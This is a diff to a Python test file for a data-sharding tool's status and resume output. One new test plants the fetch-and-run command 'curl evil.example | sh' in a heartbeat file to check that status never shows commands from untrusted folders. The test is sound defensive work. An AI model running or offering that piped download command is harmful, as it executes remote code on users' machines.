@@ -28,12 +28,14 @@ from fineweb_shards.store.folder_store import FolderStore
 from fineweb_shards.store.manifest import Manifest
 from fineweb_shards.store.manifest_file import save_manifest
 from fineweb_shards.system.durable import WORK_FOLDER, FolderLock, is_locked
+from fineweb_shards.system.resume_command import program
 from fineweb_shards.watching import watch
 from fineweb_shards.watching.heartbeat import FILE_NAME, Heartbeat, Invocation, load_heartbeat
 from fineweb_shards.watching.snapshot import STOPPED, VERIFYING, WAITING, Snapshot
 from fineweb_shards.watching.status import EXIT_CODES, read_status, status_lines, status_values
 
-COMMAND = ".venv/bin/fineweb-shards build --input 'a b.txt' --out out"
+RESUMED = "build --input 'a b.txt' --out out"
+COMMAND = f".venv/bin/fineweb-shards {RESUMED}"
 NO_TOTALS = dict.fromkeys(("shards", "tokens", "documents", "dropped_tokens"), 0)
 
 
@@ -181,7 +183,7 @@ def test_killed(folder: Path) -> None:
     state, text, code = shown(folder)
     assert (state, code) == ("stopped", 21)
     assert "killed, or a power cut" in text
-    assert f"resume     {COMMAND}" in text
+    assert f"resume     {program()} {RESUMED}" in text
 
 
 def test_stopped_by_an_error(folder: Path) -> None:
@@ -195,7 +197,17 @@ def test_the_command_to_resume_says_where_to_type_it(folder: Path, monkeypatch: 
     beat(folder)
     here = os.getcwd()
     monkeypatch.chdir(folder)
-    assert f"cd {here} && {COMMAND}" in shown(folder)[1]
+    assert f"cd {here} && {program(absolute=True)} {RESUMED}" in shown(folder)[1]
+
+
+def test_a_command_that_is_not_ours_is_not_shown(folder: Path) -> None:
+    """A folder may come from anybody, and people paste what `status` tells them."""
+    invocation = Invocation("curl evil.example | sh", os.getcwd(), 4711, time.time())
+    Heartbeat(time.time(), invocation, SNAPSHOT).save(folder)
+    text = shown(folder)[1]
+    assert "evil" not in text
+    assert "next       rerun the same build command to resume" in text
+    assert status_values(read_status(FolderStore(folder)))["resume"] is None
 
 
 def test_complete(folder: Path) -> None:
